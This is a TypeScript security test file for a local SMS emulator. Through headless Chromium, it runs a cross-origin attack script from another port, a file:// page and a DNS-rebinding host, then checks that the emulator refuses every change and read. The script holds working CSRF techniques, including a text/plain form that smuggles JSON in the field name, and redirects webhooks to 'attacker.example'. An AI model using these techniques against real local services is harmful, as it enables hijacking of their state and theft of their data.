/**
 * Attacks from real Chromium (Debian's, through playwright-core): a page on another local port, a local HTML file
 * (Origin null) and a DNS-rebinding name each try to change and read the emulator, on the default configuration and
 * with a control token. Nothing changes and nothing is read; the inbox cannot be framed.
 */

import { createServer, type Server } from 'node:http';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Browser, type Page, chromium } from 'playwright-core';
import type { Emulator } from '../../src/index.js';
import { makeEmulator, send } from '../support/api.js';
import { chromiumPath } from '../support/browser.js';

/** The name the browser resolves to this machine, as a rebinding DNS server would answer on its second lookup. */
const rebinding = 'attacker.example';
const secretText = 'Your one-time code is 424242';

let browser: Browser;
let attacker: Server;
let attackerOrigin: string;
let folder: string;
const emulators: { name: string; emulator: Emulator; port: number }[] = [];

beforeAll(async () => {
  browser = await chromium.launch({
    executablePath: chromiumPath(),
    headless: true,
    args: [
      `--host-resolver-rules=MAP ${rebinding} 127.0.0.1`,
      // Without Chromium's Local Network Access checks, as older browsers and other engines behave: the emulator must
      // protect itself, not count on the browser (with them, the rebinding page below could not even try).
      '--disable-features=BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults,LocalNetworkAccessChecks',
    ],
  });
  // The attacker's own site: any path answers an empty page the attack script then runs in.
  attacker = createServer((_, response) =>
    response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>attacker</title>'),
  );
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerOrigin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  folder = mkdtempSync(join(tmpdir(), 'sms-emulator-attack-'));
  writeFileSync(join(folder, 'attack.html'), '<!doctype html><title>a saved page</title>');
  for (const [name, options] of [
    ['default configuration', {}],
    ['a control token', { controlToken: 'tok-9c1e' }],
  ] as const) {
    const emulator = makeEmulator(options);
    const { port } = await emulator.listen({ port: 0 });
    await send(emulator, { recipient: ['27831234567'], message: secretText });
    emulators.push({ name, emulator, port });
  }
});

afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => attacker?.close(resolve));
  for (const { emulator } of emulators) await emulator.close();
  if (folder) rmSync(folder, { recursive: true, force: true });
});

/** Everything an attacker could change or read, as the emulator itself reports it. */
const state = (emulator: Emulator) => ({ snapshot: emulator.snapshot(), chaos: emulator.webhooks.chaos() });

/**
 * Runs in the attacker's page (plain script text: the page's own globals, not Node's): "simple" requests (no-cors fetch
 * with text/plain, auto-submitted forms) that move the clock, hold webhooks for 7 days, create an account, point the
 * default account's webhooks at the attacker and reset everything; then reads of the control API, the report and the
 * API with the well-known default key. Answers what each read got.
 */
const attackScript = `async (target) => {
  const simple = (path, body) =>
    fetch(target + path, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body }).catch(() => undefined);
  await simple('/_emulator/clock', '{"advance":"24h"}');
  await simple('/_emulator/webhooks/chaos', '{"delayRate":1,"delay":"7d"}');
  await simple('/_emulator/accounts', '{"apiKey":"pk_attacker","webhookUrl":"http://attacker.example/hook"}');
  await simple('/_emulator/accounts/pk_test_sms_emulator', '{"webhookUrl":"http://attacker.example/hook"}');
  const submit = (path, name, value) =>
    new Promise((resolve) => {
      const frame = document.createElement('iframe');
      frame.name = 'sink' + Math.random();
      document.body.append(frame);
      const form = document.createElement('form');
      Object.assign(form, { method: 'POST', action: target + path, enctype: 'text/plain', target: frame.name });
      const field = document.createElement('input');
      Object.assign(field, { name, value });
      form.append(field);
      document.body.append(form);
      frame.onload = () => resolve();
      form.submit();
    });
  // text/plain forms send name=value: the name carries the JSON, the value closes it.
  await submit('/_emulator/clock', '{"advance":"48h","x":"', '"}');
  await submit('/_emulator/reset', 'x', 'y');
  const reads = {};
  const basic = 'Basic ' + btoa('pk_test_sms_emulator:');
  const paths = ['/_emulator/accounts', '/_emulator/snapshot', '/_emulator/messages', '/_emulator/report?format=json', '/v1/messages', '/sandbox/v1/messages/balance'];
  for (const path of paths) {
    try {
      const response = await fetch(target + path, { headers: path.startsWith('/_') ? {} : { authorization: basic } });
      reads[path] = response.status + ' ' + (await response.text());
    } catch {
      reads[path] = 'unreadable';
    }
  }
  return reads;
}`;

function attack(page: Page, target: string): Promise<Record<string, string>> {
  return page.evaluate(`(${attackScript})(${JSON.stringify(target)})`);
}

/** Each read got `refused` (the browser's refusal, or the emulator's), and none of the emulator's data. */
function expectNothingRead(reads: Record<string, string>, refused: RegExp): void {
  expect(Object.keys(reads).length).toBe(6);
  for (const [path, got] of Object.entries(reads)) {
    expect(got, path).toMatch(refused);
    for (const secret of [secretText, 'sk_test_sms_emulator', 'pk_test_sms_emulator"'])
      expect(got, path).not.toContain(secret);
  }
}

/** Cross-origin, the browser hides every answer (the emulator sends no CORS headers). */
const unreadable = /^unreadable$/;

async function attackedFrom(open: (page: Page, port: number) => Promise<string>, refused = unreadable): Promise<void> {
  for (const { name, emulator, port } of emulators) {
    const before = state(emulator);
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      const target = await open(page, port);
      expectNothingRead(await attack(page, target), refused);
    } finally {
      await context.close();
    }
    expect(state(emulator), name).toEqual(before);
  }
}

test('a page on another local port changes nothing and reads nothing', async () => {
  await attackedFrom(async (page, port) => {
    await page.goto(`${attackerOrigin}/`);
    return `http://127.0.0.1:${port}`;
  });
});

test('a local HTML file (Origin null) changes nothing and reads nothing', async () => {
  await attackedFrom(async (page, port) => {
    await page.goto(`file://${join(folder, 'attack.html')}`);
    return `http://localhost:${port}`;
  });
});

test('a page on a DNS-rebinding name, same-origin with the emulator for the browser, changes nothing and reads nothing', async () => {
  // Same-origin, the browser shows the page every answer: the emulator's refusal is all that stands.
  await attackedFrom(async (page, port) => {
    const origin = `http://${rebinding}:${port}`;
    // The first DNS answer pointed at the attacker's server, which served this page; every later request reaches the emulator.
    await page.route(`${origin}/attack`, (route) =>
      route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>rebinding</title>' }),
    );
    await page.goto(`${origin}/attack`);
    return origin;
  }, /^403 .*"message":"HOST_NOT_ALLOWED"/);
});

test('the inbox framed by a page on another origin is refused', async () => {
  const { port } = emulators[0] as (typeof emulators)[number];
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    await page.goto(`${attackerOrigin}/`);
    const inbox = `http://127.0.0.1:${port}/_emulator/ui`;
    await page.evaluate(`new Promise((resolve) => {
      const frame = document.createElement('iframe');
      frame.onload = () => resolve();
      frame.src = ${JSON.stringify(inbox)};
      document.body.append(frame);
    })`);
    const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
    expect(frame).toBeDefined();
    expect(await frame?.locator('.brand').count()).toBe(0);
  } finally {
    await context.close();
  }
});
